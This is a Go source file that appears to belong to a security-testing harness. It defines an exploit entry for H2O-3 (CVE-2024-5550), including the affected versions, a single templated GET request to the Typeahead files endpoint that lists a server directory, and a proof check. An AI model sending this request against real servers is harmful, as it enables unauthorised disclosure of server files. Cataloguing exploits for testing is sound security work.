package attack

// h2oAttacks are the exploits against H2O-3.
var h2oAttacks = []Attack{
	{
		ID:       "h2o/typeahead",
		CVE:      []string{"CVE-2024-5550"},
		Doc:      "lists a folder of the server",
		Works:    []string{"3.46.0.12", "3.46.0.4"},
		Steps:    []Step{get("/3/Typeahead/files?src=${secret-dir|url}&limit=100")},
		Proof:    Proof{Answer: "${secret-file}"},
		ReadOnly: true,
	},
}
